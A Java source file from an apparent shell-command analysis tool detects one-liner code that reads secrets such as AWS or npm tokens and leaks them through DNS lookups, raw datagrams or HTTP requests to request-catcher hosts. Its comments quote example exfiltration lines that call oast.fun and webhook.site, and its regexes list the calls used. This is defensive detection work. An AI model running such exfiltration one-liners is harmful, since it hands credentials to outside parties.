package dev.interlock.analysis.shell.recognizers.code;

import dev.interlock.analysis.shell.Invocation;
import dev.interlock.analysis.shell.recognizers.network.NetworkRecognizer;
import dev.interlock.analysis.shell.recognizers.secrets.CredentialRecognizer;
import dev.interlock.environment.Hosts;
import dev.interlock.model.Operation;
import dev.interlock.model.Verb;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * One-liner code that reads a secret ({@code os.environ['AWS_SECRET_ACCESS_KEY']}, {@code process.env.NPM_TOKEN}, a
 * secret file) and sends it out without an HTTP body. A DNS lookup of a name built from it
 * ({@code socket.gethostbyname(key + '.x.oast.fun')}) hands it to the servers of that zone: no API is called that way,
 * so it leaves wherever the zone is. A raw datagram carries it the same way. A request to a request catcher, paste or
 * tunnel host ({@code requests.get('https://webhook.site/…', params={'k': token})}) leaves with it, as the same
 * variable in {@code curl}'s words does; sent to any other host it is how the secret is used, and stays as the HTTP call
 * is judged.
 */
final class SecretLookups {

    private SecretLookups() {
    }

    /** Name resolution and raw datagrams, in the interpreters' libraries. */
    private static final Pattern LOOKUP = Pattern.compile(
            "\\b(?:gethostbyname(?:_ex)?|gethostbyaddr|getaddrinfo|getnameinfo)\\s*\\(|\\bdns\\.(?:lookup|resolve\\w*)\\s*\\("
            + "|['\"]dns['\"]\\s*\\)\\s*\\.(?:lookup|resolve\\w*)\\s*\\(|\\bdns\\.promises\\.|\\bdns\\.resolver\\.(?:resolve|query)\\s*\\(|\\bResolv(?:\\.getaddress|::DNS)|Resolve-DnsName"
            + "|\\[(?:System\\.)?Net\\.Dns\\]|\\.sendto\\s*\\(|\\bgethostbyname\\b|\\bdns_get_record\\s*\\(");
    /** HTTP clients, whatever the method: a GET's URL and parameters carry the secret as well as a body does. */
    private static final Pattern HTTP = Pattern.compile(
            "\\b(?:requests|httpx|urllib3|aiohttp|session)\\.\\w+\\s*\\(|\\burlopen\\s*\\(|\\bHTTPS?Connection\\s*\\(|\\bfetch\\s*\\("
            + "|\\baxios\\b|\\bhttps?\\.(?:get|request)\\s*\\(|Net::HTTP|\\bURI\\.open\\b|\\bopen\\s*\\(\\s*['\"]https?://|LWP::|HTTP::Tiny"
            + "|\\bfile_get_contents\\s*\\(|\\bcurl_init\\s*\\(|Invoke-(?:WebRequest|RestMethod)|\\b(?:iwr|irm)\\b|WebClient");
    /** A host name literal, or the zone appended to a secret ({@code '.k.burpcollaborator.net'}). */
    private static final Pattern NAME = Pattern.compile("['\"](\\.)?((?:[A-Za-z0-9-]+\\.)+[A-Za-z]{2,})\\.?['\"]");
    private static final Pattern IPV4 = Pattern.compile("['\"]((?:\\d{1,3}\\.){3}\\d{1,3})['\"]");
    private static final Pattern URL_HOST = Pattern.compile("https?://([A-Za-z0-9.-]+)");

    /** The transfer of the secrets the code reads, when it looks them up or sends them where they leave. */
    static Optional<Operation> in(String code, List<Operation> ops, Invocation inv) {
        List<String> secrets = secrets(code, ops);
        if (secrets.isEmpty()) {
            return Optional.empty();
        }
        String what = String.join(", ", secrets);
        if (looksUpComputed(code)) {
            String zone = zone(code);
            if (zone.isEmpty() || !Hosts.loopback(zone)) {
                return Optional.of(NetworkRecognizer.exfiltration("credentials", what, zone, inv.evidence(), Map.of()).toBuilder()
                        .note(inv.program() + " code puts " + what + " into a name it looks up or a datagram it sends: "
                                + (zone.isEmpty() ? "the servers of that name" : zone + " and its name servers") + " receive it")
                        .build());
            }
        }
        if (HTTP.matcher(code).find()) {
            Matcher m = URL_HOST.matcher(code);
            while (m.find()) {
                if (NetworkRecognizer.dropHost(m.group(1))) {
                    return Optional.of(NetworkRecognizer.exfiltration("credentials", what, m.group(1), inv.evidence(), Map.of())
                            .toBuilder().note(inv.program() + " code sends " + what + " to " + m.group(1)
                                    + ", a public request catcher, paste or tunnel host no organisation's API lives on").build());
                }
            }
        }
        return Optional.empty();
    }

    /** A lookup or datagram whose name or data is not a plain literal: {@code gethostbyname('github.com')} carries nothing. */
    private static boolean looksUpComputed(String code) {
        Matcher m = LOOKUP.matcher(code);
        while (m.find()) {
            if (!LITERAL_ARGUMENT.matcher(code).region(m.end(), code.length()).lookingAt()) {
                return true;
            }
        }
        return false;
    }

    private static final Pattern LITERAL_ARGUMENT = Pattern.compile("\\s*\\(?\\s*(?:'[^'\\n]*'|\"[^\"\\n]*\")\\s*[,)]");

    /** The secret variables the code reads ({@code $NAME}) and the secrets its other calls read (files, keyrings). */
    private static List<String> secrets(String code, List<Operation> ops) {
        List<String> names = new ArrayList<>();
        for (Operation op : ops) {
            if (op.verb() == Verb.CREDENTIAL) {
                String name = op.resource().name().isEmpty() ? op.resource().type() : op.resource().name();
                String shown = op.resource().type().equals("environment") && !name.equals("environment") ? "$" + name : name;
                if (!names.contains(shown)) {
                    names.add(shown);
                }
            }
        }
        if (code.contains("env") || code.contains("ENV")) {
            Matcher m = CodeSecrets.ENV_READ.matcher(code);
            while (m.find()) {
                String name = m.group(1) != null ? m.group(1) : m.group(2) != null ? m.group(2) : m.group(3);
                if (name != null && CredentialRecognizer.secretName(name) && !names.contains("$" + name)) {
                    names.add("$" + name);
                }
            }
        }
        return names;
    }

    /** The name the code looks up: a zone appended to the secret first, else the first host name or address it spells. */
    private static String zone(String code) {
        Matcher m = NAME.matcher(code);
        String first = "";
        while (m.find()) {
            if (m.group(1) != null) {
                return m.group(2);
            }
            if (first.isEmpty()) {
                first = m.group(2);
            }
        }
        if (!first.isEmpty()) {
            return first;
        }
        Matcher ip = IPV4.matcher(code);
        return ip.find() ? ip.group(1) : "";
    }
}
